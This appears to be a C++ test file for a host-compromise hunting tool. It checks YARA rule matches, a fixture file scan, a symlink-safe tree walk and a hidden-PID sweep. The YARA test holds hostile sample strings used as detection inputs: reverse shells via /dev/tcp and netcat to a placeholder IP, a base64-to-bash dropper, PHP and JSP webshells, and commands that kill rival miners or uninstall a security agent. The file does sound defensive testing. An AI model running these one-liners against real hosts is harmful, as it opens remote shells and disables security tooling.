// hunt's readers: YARA rules, the file pass over a fixture root, the tree walk, the hidden-PID sweep.
#include <doctest/doctest.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "core/error.h"
#include "hunt/file_scan.h"
#include "hunt/pid_sweep.h"
#include "hunt/yara_rules.h"
#include "playbook/playbook.h"

using namespace unmine;
namespace fs = std::filesystem;

namespace {

std::vector<std::string> rules_matching(YaraScanner& s, std::string_view text) {
  std::vector<std::string> out;
  for (auto& m : s.scan(text.data(), text.size())) out.push_back(m.rule);
  return out;
}

bool has(const std::vector<std::string>& v, std::string_view x) { return std::find(v.begin(), v.end(), x) != v.end(); }

}  // namespace

TEST_CASE("the playbook's YARA rules compile and match what their meta says") {
  auto rules = YaraRules::compile(Playbook::load());
  CHECK(rules->rule_count() >= 12);
  YaraScanner s(rules);
  struct Row {
    const char* text;
    const char* rule;
  };
  const Row rows[] = {
      {"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", "tool_reverse_shell"},
      {"python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", "tool_reverse_shell"},
      {"nc -e /bin/sh 203.0.113.9 4444", "tool_reverse_shell"},
      {"echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8K | base64 -d | bash", "tool_dropper_base64_shell"},
      {"<?php system($_GET['c']); ?>", "tool_webshell_php"},
      {"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "tool_webshell_jsp"},
      {"pkill -9 -f kdevtmpfsi", "tool_rival_miner_killer"},
      {"rm -rf /usr/local/aegis; uninstall", "tool_security_agent_uninstaller"},
      {"{\"pools\": [{\"url\": \"p:1\", \"user\": \"w\"}], \"donate-level\": 1}", "miner_config_json"},
  };
  for (auto& r : rows) {
    CAPTURE(r.text);
    CHECK(has(rules_matching(s, r.text), r.rule));
  }
  CHECK(rules_matching(s, "#!/bin/sh\necho hello\nls -l /tmp\n").empty());
  CHECK(rules_matching(s, "<?php echo htmlspecialchars($_GET['name']); ?>").empty());
  auto m = s.scan("bash -i >& /dev/tcp/1.2.3.4/80", 30);
  REQUIRE(m.size() == 1);
  CHECK(m[0].meta["kind"] == "tool.reverse_shell");
  CHECK(m[0].meta["severity"] == "critical");
  CHECK_FALSE(m[0].hits.empty());
}

TEST_CASE("a YARA compile error names the file and line") {
  try {
    YaraRules::compile_sources({{"builtin:rules/broken.yar",
                                 "rule ok { condition: true }\nrule bad { strings: $a = \"x\" condition: $b }\n"}});
    FAIL("compiled a broken rule");
  } catch (const RuntimeError& e) {
    CHECK(std::string(e.what()).find("broken.yar:2") != std::string::npos);
  }
}

TEST_CASE("the file pass over the tooling fixture finds each kind") {
  HostRoot host({std::string(UNMINE_FIXTURES) + "/hosts/hunt-tooling", "", ""});
  auto playbook = Playbook::load();
  auto dpkg = DpkgDatabase::load(host);
  CHECK(dpkg.owns("/usr/bin/ls"));
  auto tools = SystemTools::load(host, {"chattr", "curl"});
  REQUIRE(tools.tools().size() == 2);
  FileScanConfig c;
  c.window = compute_window(std::nullopt, {}, ::time(nullptr));
  c.dpkg = &dpkg;
  c.tools = &tools;
  c.rules = YaraRules::compile(playbook);
  c.scanner_names = {"masscan"};
  c.walk.skip = {"/proc", "/sys", "/dev"};
  c.walk.hot_prefixes = {"/tmp", "/var/tmp", "/dev/shm"};
  c.starts = {"/", "/dev/shm"};
  auto r = scan_files(host, c);
  std::map<std::string, std::set<std::string>> kinds;  // path -> kinds
  for (auto& f : r.findings) kinds[f.path.value_or("")].insert(f.kind);
  CHECK(kinds["/tmp/.x/masscan"].count("tool.scanner"));
  CHECK(kinds["/opt/tools/kworker"].count("tool.scanner"));  // renamed: by content
  CHECK(kinds["/tmp/.x/ct"].count("tool.renamed_system_tool"));
  CHECK(kinds["/srv/app/public/.cache.php"].count("tool.webshell"));
  CHECK(kinds["/tmp/rs.sh"].count("tool.reverse_shell"));
  CHECK(kinds["/dev/shm/.r/p.py"].count("tool.reverse_shell"));
  CHECK(kinds["/var/tmp/.ssh-spread.sh"].count("tool.ssh_spreader"));
  CHECK(kinds["/tmp/k.sh"].count("tool.rival_killer"));
  CHECK(kinds["/tmp/k.sh"].count("tool.agent_uninstaller"));
  CHECK(kinds["/opt/app/bin/helper"].count("file.new_binary"));
  CHECK(kinds["/usr/bin/ps"].count("file.package_modified"));
  CHECK_FALSE(kinds.count("/usr/bin/ls"));
  CHECK(r.stats.files_scanned > 10);
}

TEST_CASE("the tree walk never follows a symlink, even one pointing out of the root") {
  auto dir = fs::temp_directory_path() / ("unmine-walk-" + std::to_string(::getpid()));
  fs::create_directories(dir / "a");
  std::ofstream(dir / "a" / "f") << "x";
  fs::create_symlink("/", dir / "a" / "escape");
  fs::create_symlink("/etc/passwd", dir / "a" / "passwd");
  HostRoot host({dir.string(), "", ""});
  std::vector<std::string> seen;
  auto stats = walk_tree(host, "/", {}, [&](const WalkedFile& f) { seen.emplace_back(f.path); });
  CHECK(seen == std::vector<std::string>{"/a/f"});
  CHECK(stats.dirs == 2);
  fs::remove_all(dir);
}

TEST_CASE("the sweep finds a live PID that the listing does not show, and nothing when it does") {
  pid_t child = ::fork();
  REQUIRE(child >= 0);
  if (child == 0) {
    ::pause();
    ::_exit(0);
  }
  int pid_max = 32768;
  std::ifstream("/proc/sys/kernel/pid_max") >> pid_max;
  PidSweepOptions o;
  o.last_pid = pid_max;
  auto hiding = [&] {
    auto s = list_proc_tasks("/proc");
    s.erase(child);
    return s;
  };
  auto r = find_hidden_pids(hiding, o);
  bool found = false;
  for (auto& h : r.hidden)
    if (h.pid == child) {
      found = true;
      CHECK(h.proc_readable);
      CHECK(std::find(h.answered.begin(), h.answered.end(), "kill") != h.answered.end());
    }
  CHECK(found);
  CHECK(r.alive >= r.hidden.size());
  auto honest = find_hidden_pids([] { return list_proc_tasks("/proc"); }, o);
  for (auto& h : honest.hidden) CHECK(h.pid != child);
  ::kill(child, SIGKILL);
  ::waitpid(child, nullptr, 0);
}
